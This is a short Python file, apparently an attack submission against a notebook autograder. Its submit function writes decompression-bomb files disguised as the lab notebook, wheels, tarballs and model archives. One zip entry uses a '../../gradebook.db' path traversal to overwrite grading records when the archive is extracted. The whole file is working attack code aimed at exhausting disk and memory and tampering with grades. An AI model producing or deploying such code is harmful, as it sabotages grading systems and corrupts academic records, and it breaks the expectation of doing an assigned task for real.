"""
attack: archives that unpack to gigabytes, as the notebook and beside it, under the names of things that get unpacked
after: the disk and the memory of whoever opens them
"""

import gzip
import io
import zipfile
from pathlib import Path


def submit(folder: Path, notebook: dict) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("../../gradebook.db", bytes(20_000_000))
    bomb = gzip.compress(bytes(20_000_000)) + packed.getvalue()
    for name in ("mod-1-lab-1.ipynb", "bundle.zip", "data.tar.gz", "model.npz", "torch.zip", "x.whl"):
        (folder / name).write_bytes(bomb if name != "torch.zip" else packed.getvalue())
